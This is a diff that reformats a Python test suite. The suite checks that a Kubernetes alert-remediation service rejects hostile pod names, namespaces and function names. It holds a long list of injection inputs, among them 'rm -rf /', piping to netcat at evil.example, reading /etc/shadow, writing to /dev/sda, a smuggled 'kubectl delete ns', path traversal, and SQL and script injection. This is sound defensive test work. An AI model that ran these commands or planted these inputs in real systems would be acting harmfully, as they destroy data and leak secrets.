@@ -38,21 +38,71 @@ CATALOG = default_catalog()
 
 HOSTILE_VALUES = [
     # shell metacharacters and command substitution
-    "cart; rm -rf /", "cart && reboot", "cart || true", "cart | nc evil.example 1337", "$(reboot)", "`id`",
-    "${IFS}cat${IFS}/etc/shadow", "cart > /dev/sda", "cart < /etc/passwd", "cart & sleep 100", "cart#comment",
-    "!ls", "cart*", "cart?", "~root", "{a,b}", "cart\\", "cart\tx",
+    "cart; rm -rf /",
+    "cart && reboot",
+    "cart || true",
+    "cart | nc evil.example 1337",
+    "$(reboot)",
+    "`id`",
+    "${IFS}cat${IFS}/etc/shadow",
+    "cart > /dev/sda",
+    "cart < /etc/passwd",
+    "cart & sleep 100",
+    "cart#comment",
+    "!ls",
+    "cart*",
+    "cart?",
+    "~root",
+    "{a,b}",
+    "cart\\",
+    "cart\tx",
     # quotes
-    "cart'", 'cart"', "cart'; DROP TABLE pods;--", '"; kubectl delete ns shop; echo "', "'$(id)'",
+    "cart'",
+    'cart"',
+    "cart'; DROP TABLE pods;--",
+    '"; kubectl delete ns shop; echo "',
+    "'$(id)'",
     # newlines and control characters
-    "cart\nkubectl delete ns shop", "cart\r\nX-Injected: 1", "cart\x00", "cart\x1b[31m", "\ncart", "cart\u2028x",
+    "cart\nkubectl delete ns shop",
+    "cart\r\nX-Injected: 1",
+    "cart\x00",
+    "cart\x1b[31m",
+    "\ncart",
+    "cart\u2028x",
     # path traversal
-    "../../etc/passwd", "..", ".", "cart/../../kube-system", "/var/run/secrets/kubernetes.io",
-    "%2e%2e%2fetc", "..%2f..%2f", "cart/x", "C:\\Windows",
+    "../../etc/passwd",
+    "..",
+    ".",
+    "cart/../../kube-system",
+    "/var/run/secrets/kubernetes.io",
+    "%2e%2e%2fetc",
+    "..%2f..%2f",
+    "cart/x",
+    "C:\\Windows",
     # not a Kubernetes name
-    "Cart-7F9", "-n", "--all", "-", "cart-", "cart ", " cart", "", "cärt", "cart_7", "cart.", ".cart",
-    "<script>alert(1)</script>", "cart@evil", "cart:80", "http://evil/", "{{ $labels.pod }}", "{{ .Values }}",
+    "Cart-7F9",
+    "-n",
+    "--all",
+    "-",
+    "cart-",
+    "cart ",
+    " cart",
+    "",
+    "cärt",
+    "cart_7",
+    "cart.",
+    ".cart",
+    "<script>alert(1)</script>",
+    "cart@evil",
+    "cart:80",
+    "http://evil/",
+    "{{ $labels.pod }}",
+    "{{ .Values }}",
     # over length limits
-    "a" * 64, "a" * 254, "ab." * 90 + "c", "a" * 5000,
+    "a" * 64,
+    "a" * 254,
+    "ab." * 90 + "c",
+    "a" * 5000,
 ]
 # Namespaces: everything above, plus valid names outside the policy's scope (`shop`).
 OUT_OF_SCOPE = ["kube-system", "default", "flux-system", "shop2", "web", "kube-public"]
@@ -67,8 +117,16 @@ NON_STRING_PARAMETERS: list[dict[str, Any]] = [
     {"name": "cart-1", "namespace": ["shop", "kube-system"]},
     {"name": "cart-1", "namespace": None},
 ]
-HOSTILE_FUNCTIONS = ["pod-restart; rm -rf /", "../pod-restart", "POD-RESTART", "pod_restart",
-                     "pod-restart\nscale-deployment", "exec-shell", "p" * 300, "scale-deployment"]  # last: not allowed
+HOSTILE_FUNCTIONS = [
+    "pod-restart; rm -rf /",
+    "../pod-restart",
+    "POD-RESTART",
+    "pod_restart",
+    "pod-restart\nscale-deployment",
+    "exec-shell",
+    "p" * 300,
+    "scale-deployment",
+]  # last: not allowed
 assert len(HOSTILE_VALUES) >= 50
 
 POLICIES = """\
@@ -109,8 +167,14 @@ spec:
 """
 
 
-def _alert(case: str, alertname: str, *, pod: str = "cart-ok", namespace: str = "shop",
-           annotations: dict[str, str] | None = None) -> dict[str, Any]:
+def _alert(
+    case: str,
+    alertname: str,
+    *,
+    pod: str = "cart-ok",
+    namespace: str = "shop",
+    annotations: dict[str, str] | None = None,
+) -> dict[str, Any]:
     return {
         "status": "firing",
         "labels": {"alertname": alertname, "namespace": namespace, "pod": pod, "case": case},
@@ -136,14 +200,19 @@ def _cases() -> tuple[list[tuple[str, dict[str, Any]]], dict[str, tuple[Any, Any
     for value in HOSTILE_VALUES + OUT_OF_SCOPE:
         add(lambda c, v=value: _alert(c, "HostileLabels", namespace=v))
     for value in HOSTILE_VALUES + OUT_OF_SCOPE:
-        parameters = {"name": "cart-ok", "namespace": value} if value in OUT_OF_SCOPE else {"name": value, "namespace": "shop"}
+        parameters = (
+            {"name": "cart-ok", "namespace": value} if value in OUT_OF_SCOPE else {"name": value, "namespace": "shop"}
+        )
         annotations = {"lambda_function": "pod-restart", "lambda_parameters": json.dumps(parameters)}
         add(lambda c, a=annotations: _alert(c, "HostileAnnotation", annotations=a))
     for parameters in NON_STRING_PARAMETERS:
         annotations = {"lambda_function": "pod-restart", "lambda_parameters": json.dumps(parameters)}
         add(lambda c, a=annotations: _alert(c, "HostileAnnotation", annotations=a))
     for function in HOSTILE_FUNCTIONS:
-        annotations = {"lambda_function": function, "lambda_parameters": json.dumps({"name": "cart-ok", "namespace": "shop"})}
+        annotations = {
+            "lambda_function": function,
+            "lambda_parameters": json.dumps({"name": "cart-ok", "namespace": "shop"}),
+        }
         add(lambda c, a=annotations: _alert(c, "HostileAnnotation", annotations=a))
     for value in [*HOSTILE_VALUES, *NON_STRING_PARAMETERS, *HOSTILE_FUNCTIONS]:
         if isinstance(value, dict):
@@ -156,7 +225,10 @@ def _cases() -> tuple[list[tuple[str, dict[str, Any]]], dict[str, tuple[Any, Any
         model_answers[cases[-1][0]] = answer
     # Controls: the same vectors with benign values trigger.
     add(lambda c: _alert(c, "HostileLabels", pod="cart-control"), control=True)
-    benign = {"lambda_function": "pod-restart", "lambda_parameters": json.dumps({"name": "cart-annotated", "namespace": "shop"})}
+    benign = {
+        "lambda_function": "pod-restart",
+        "lambda_parameters": json.dumps({"name": "cart-annotated", "namespace": "shop"}),
+    }
     add(lambda c: _alert(c, "HostileAnnotation", annotations=benign), control=True)
     add(lambda c: _alert(c, "HostileModel"), control=True)
     model_answers[cases[-1][0]] = ("pod-restart", {"name": "cart-modelled", "namespace": "shop"})
@@ -168,8 +240,16 @@ CASES_BY_ID = dict(CASES)
 
 
 def _payload(alert: dict[str, Any]) -> dict[str, Any]:
-    return {"version": "4", "status": "firing", "receiver": "trm-sre", "groupKey": "{}:{}",
-            "groupLabels": {}, "commonLabels": {}, "commonAnnotations": {}, "alerts": [alert]}
+    return {
+        "version": "4",
+        "status": "firing",
+        "receiver": "trm-sre",
+        "groupKey": "{}:{}",
+        "groupLabels": {},
+        "commonLabels": {},
+        "commonAnnotations": {},
+        "alerts": [alert],
+    }
 
 
 async def test_no_hostile_value_reaches_a_trigger_whichever_stage_proposes_it(
